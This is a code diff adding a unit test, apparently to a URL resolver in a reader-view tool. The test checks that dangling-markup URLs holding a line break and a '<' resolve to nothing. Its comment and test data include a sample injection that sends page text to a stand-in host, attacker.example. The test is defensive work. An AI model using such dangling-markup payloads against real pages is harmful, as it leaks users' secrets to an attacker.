@@ -38,3 +38,15 @@ def test_urls_with_tabs_controls_and_brackets_resolve_as_before() -> None:
     assert base.resolve(".well-known", schemes=LINK_SCHEMES) == (
         "https://example.com/news/.well-known"
     )
+
+
+def test_a_url_holding_a_line_break_and_a_less_than_sign_resolves_nothing() -> None:
+    # Issue 29 (7): dangling markup. An injected `<img src='http://attacker/?` runs
+    # on over the page's next lines, secrets and tags; Chromium refuses such a URL
+    # (a "<" and a tab or line break), but the reader view wrote it back without
+    # the line break and Chromium sent the text to the attacker.
+    base = UrlBase.of("https://news.example/story")
+    for dangling in ("http://attacker.example/?\n<p>secret", "/x?\t<b>", "x?\r\n<"):
+        assert base.resolve(dangling, schemes=LINK_SCHEMES) is None
+    assert base.resolve("/x?a=<b>", schemes=LINK_SCHEMES) == "https://news.example/x?a=<b>"
+    assert base.resolve("/x?a=\nb", schemes=LINK_SCHEMES) is not None
